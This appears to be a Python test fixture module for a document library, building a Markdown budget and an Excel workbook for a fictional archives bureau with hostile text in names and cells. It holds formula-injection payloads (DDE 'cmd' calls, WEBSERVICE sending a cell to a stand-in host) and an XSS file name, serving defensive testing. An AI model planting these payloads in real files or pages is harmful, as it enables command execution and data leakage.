"""A library whose documents are full of hostile text, in their names too."""

import io

import openpyxl

from index.library import Library
from index.settings import Settings

AGENCY = "测试市档案局"
FORMULAS = (
    "=1+1",
    '=WEBSERVICE("http://example.invalid/"&A1)',
    '=HYPERLINK("http://example.invalid/","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("http://example.invalid/")',
    "=cmd|'/C calc'!A0",
)
_NAMES = (
    '<img src=x onerror="window.hit=1">2026年部门预算.md',
    "=HYPERLINK('x')2026年部门预算.xlsx",
)


def settings(home):
    """How the library at ``home`` is opened."""
    return Settings(home, embedding_model="none", workers=1)


def fill(folder, texts):
    """A library with these texts in a new folder of ``folder``, its home."""
    (folder / _NAMES[0]).write_text(publication(texts), "utf-8")
    (folder / _NAMES[1]).write_bytes(sheet(texts))
    with Library(settings(folder / "home")) as library:
        for name in _NAMES:
            assert library.add(folder / name).status == "added"
    return folder / "home"


def publication(texts):
    """A budget in Markdown whose labels, headings and paragraphs are the texts."""
    rows = "\n".join(f"{text}\t{n}.5" for n, text in enumerate(texts, 1))
    paragraphs = "\n\n".join(
        f"{text} 公务接待费{n}.5万元。{text}" for n, text in enumerate(texts, 1)
    )
    headings = "\n\n".join(f"## {text}\n\n说明。" for text in texts)
    return (
        f"# {AGENCY}2026年部门预算\n\n## 一、部门收支预算总表{texts[0]}\n\n单位：万元\n\n"
        f"项目{texts[1]}\t预算数{texts[2]}\n公务接待费\t0.77\n{rows}\n\n{headings}\n\n"
        f"## 二、情况说明\n\n{paragraphs}\n\n"
        f"{AGENCY}2026年公务接待费0.77万元{texts[0]}{texts[1]}。\n"
    )


def sheet(texts, columns=("项目", "预算数")):
    """A workbook with a text a row."""
    book = openpyxl.Workbook()
    page = book.active
    page.append([f"{AGENCY}2026年部门预算"])
    page.append(["单位：万元"])
    page.append(list(columns))
    for number, text in enumerate(texts, 1):
        page.append(["x", number + 0.25])
        cell = page.cell(page.max_row, 1)
        cell.value, cell.data_type = text, "s"
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()
